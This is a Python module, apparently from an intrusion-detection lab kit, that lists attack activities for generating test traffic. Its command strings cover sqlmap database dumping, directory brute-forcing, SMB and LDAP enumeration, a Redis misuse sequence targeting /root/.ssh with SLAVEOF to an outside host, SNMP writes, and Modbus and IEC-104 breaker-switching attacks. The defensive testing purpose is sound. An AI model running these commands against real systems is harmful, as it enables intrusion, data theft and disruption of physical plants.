"""Attacks on web applications, plants, file shares and the local network."""

from __future__ import annotations

from idskit.lab.activity import Activity, attack


def _web(name: str, command: str, seconds: int = 60) -> Activity:
    return attack(name, "web", command, "shop", seconds=seconds)


INTRUSIONS = (
    _web(
        "sqlmap",
        "sqlmap --batch --flush-session --dbms sqlite --technique BEU --output-dir {scratch} "
        '-u "http://{server}:8080/item?id=1"',
    ),
    _web(
        "sqlmap-dump",
        "sqlmap --batch --flush-session --dbms sqlite --technique U --dump --output-dir {scratch} "
        '-u "http://{server}:8080/item?id=1"',
    ),
    _web("inject", "{play} inject {server} {count} {pause}"),
    _web("inject-paths", "{play} inject {server} {count} {pause} traversal"),
    _web("inject-scripts", "{play} inject {server} {count} {pause} scripting"),
    _web("inject-commands", "{play} inject {server} {count} {pause} command"),
    _web("inject-look-ups", "{play} inject {server} {count} {pause} lookup"),
    _web("try-flaws", "{play} try-flaws {server} {count} {pause}"),
    _web("use-web-shell", "{play} use-web-shell {server} {count} {pause}"),
    _web("gobuster", "gobuster dir -q -t 4 -u http://{server}:8080 -w {folder}/paths.txt"),
    _web(
        "gobuster-slow",
        "gobuster dir -q -t 1 --delay 300ms -u http://{server}:8080 -w {folder}/paths.txt",
        seconds=40,
    ),
    _web("dirb", "dirb http://{server}:8080/ {folder}/paths.txt -S -r", seconds=40),
    _web(
        "wfuzz",
        "wfuzz -t 5 -w {folder}/words.txt --hc 404 http://{server}:8080/search?q=FUZZ",
        seconds=40,
    ),
    attack(
        "nmap-smb",
        "lateral",
        "nmap -n -Pn -p 445 --script smb-enum-shares,smb-os-discovery,smb2-security-mode {server}",
        "smb",
    ),
    attack(
        "enumerate-smb",
        "lateral",
        'sh -c \'for n in $(seq 500 520); do rpcclient -U % -c "lookupsids S-1-5-21-1-2-3-$n" '
        "{server}; done; rpcclient -U % -c enumdomusers {server}; smbclient -N -L {server}'",
        "smb",
        needs=("rpcclient",),
    ),
    attack(
        "dump-ldap",
        "lateral",
        "sh -c 'for n in $(seq 12); do ldapsearch -x -H ldap://{server} -b dc=lab "
        '"(objectClass=*)"; done\'',
        "ldap",
        needs=("ldapsearch",),
    ),
    attack(
        "misuse-redis",
        "exploit",
        'sh -c \'for w in "CONFIG SET dir /root/.ssh" "CONFIG SET dbfilename x" "KEYS *" '
        '"MODULE LIST" "SLAVEOF 10.77.0.66 6379"; do redis-cli -h {server} $w; sleep 1; done\'',
        "redis",
        needs=("redis-cli",),
    ),
    attack(
        "snmp-set",
        "exploit",
        "sh -c 'for n in $(seq {count}); do snmpset -v2c -c private -r 0 "
        "-t 1 {gateway} 1.3.6.1.2.1.1.5.0 s x$n; done'",
        "snmp",
        needs=("snmpset",),
    ),
    attack("write-modbus", "ics-attack", "{play} write-modbus {server} {count} {pause}", "modbus"),
    attack("find-units", "ics-attack", "{play} find-units {server} {count} {pause}", "modbus"),
    attack(
        "switch-breakers", "ics-attack", "{play} switch-breakers {server} {count} {pause}", "iec104"
    ),
    attack("spy-mqtt", "exploit", "{play} spy-mqtt {server} {count} {pause}", "mqtt"),
    attack("starve-leases", "flood", "{play} starve-leases {gateway} {count} 0", "dhcp"),
    attack("offer-leases", "mitm", "{play} offer-leases {gateway} {count} {pause}", "dhcp"),
    attack("redirect", "mitm", "{play} redirect {server} {count} {pause}"),
    Activity(
        name="claim-addresses",
        category="mitm",
        command="{play} claim-addresses {server} {count} {pause}",
        has_flows=False,
    ),
)
